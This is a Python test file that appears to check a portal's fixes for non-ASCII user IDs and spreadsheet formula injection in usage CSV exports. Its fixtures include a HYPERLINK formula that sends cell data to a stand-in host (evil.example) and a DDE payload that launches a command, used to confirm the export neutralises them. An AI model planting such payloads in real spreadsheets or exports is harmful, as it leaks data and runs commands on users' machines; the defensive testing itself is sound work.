"""Issue 15, item 4 c and e: a superscript user id, and spreadsheet formulas in usage CSVs."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from opkalla_portal.services import users as user_service
from opkalla_portal.services.invoices import UsageRow, usage_csv
from opkalla_portal.services.spreadsheet import safe_cell
from opkalla_portal.services.usage import UsageReport, report_csv

DANA = "dana.whitaker@lakesidedental.onmicrosoft.com"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("raw", ["²", "1²", "٣", "99999999999999999999999", "-1", "0"])
def test_a_user_id_that_is_not_ascii_digits_is_not_found(seeded, raw):
    from opkalla_portal.state.user_edit import UserEditState
    from tests.support.test_handlers import make_state

    dana = make_state(UserEditState, DANA, "/manage-users/user")._identity()
    with pytest.raises(user_service.UserNotFound):
        user_service.get_user(dana, raw)


def test_the_user_page_with_a_superscript_id_shows_not_found(seeded):
    import reflex as rx
    from reflex.istate.data import RouterData
    from sqlmodel import select

    from opkalla_portal.db import session_scope
    from opkalla_portal.models import PortalUser
    from opkalla_portal.services.sessions import SESSION_COOKIE, create_session
    from opkalla_portal.state.user_edit import UserEditState

    with session_scope() as db:
        dana = db.exec(select(PortalUser).where(PortalUser.email == DANA)).one()
        cookie = f"{SESSION_COOKIE}={create_session(db, dana)}"
    root = rx.State(_reflex_internal_init=True)
    root.router = RouterData.from_router_data(
        {
            "headers": {"cookie": cookie},
            "pathname": "/manage-users/user",
            "asPath": "/manage-users/user?id=²",
            "query": {"id": "²"},
        }
    )
    state = root.get_substate(UserEditState.get_full_name().split(".")[1:])
    UserEditState.load.fn(state)
    assert state.not_found is True and state.user_id == 0


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _row(**changes) -> UsageRow:
    values = dict(
        day="2026-01-05",
        subscription_id="sub-1",
        resource=FORMULA,
        resource_group="+cmd|' /C calc'!A0",
        category="Compute",
        meter="@SUM(1+1)",
        quantity=Decimal("2"),
        unit="1 Hour",
        unit_price=Decimal("0.5"),
        cost=Decimal("-1.00"),
        currency="USD",
    )
    values.update(changes)
    return UsageRow(**values)


def test_invoice_usage_csv_neutralises_formulas_and_keeps_numbers():
    [header, row] = _cells(usage_csv([_row()]))
    cells = dict(zip(header, row, strict=True))
    assert [v for v in row if v[:1] in "=+-@" and not v.startswith("-1.00")] == []
    assert f"'{FORMULA}" in row and "'@SUM(1+1)" in row and "'+cmd|' /C calc'!A0" in row
    assert "-1.00" in row  # a credit is still a number the sheet can sum
    assert len(cells) == len(header)


def test_usage_data_csv_neutralises_formulas():
    report = UsageReport(
        subscription=None,
        months=1,
        start=date(2026, 1, 1),
        end=date(2026, 1, 31),  # type: ignore[arg-type]
        rows=[_row(category="=1+2", unit="-x")],
    )
    [header, row] = _cells(report_csv(report))
    assert "'=1+2" in row and f"'{FORMULA}" in row and "'@SUM(1+1)" in row and "'-x" in row
    assert not any(cell[:1] in "=+@" for cell in row)


def test_one_helper_for_every_export():
    assert safe_cell("=1") == "'=1" and safe_cell("\t=1") == "'\t=1" and safe_cell("Visio") == "Visio"
    assert safe_cell(None) == ""
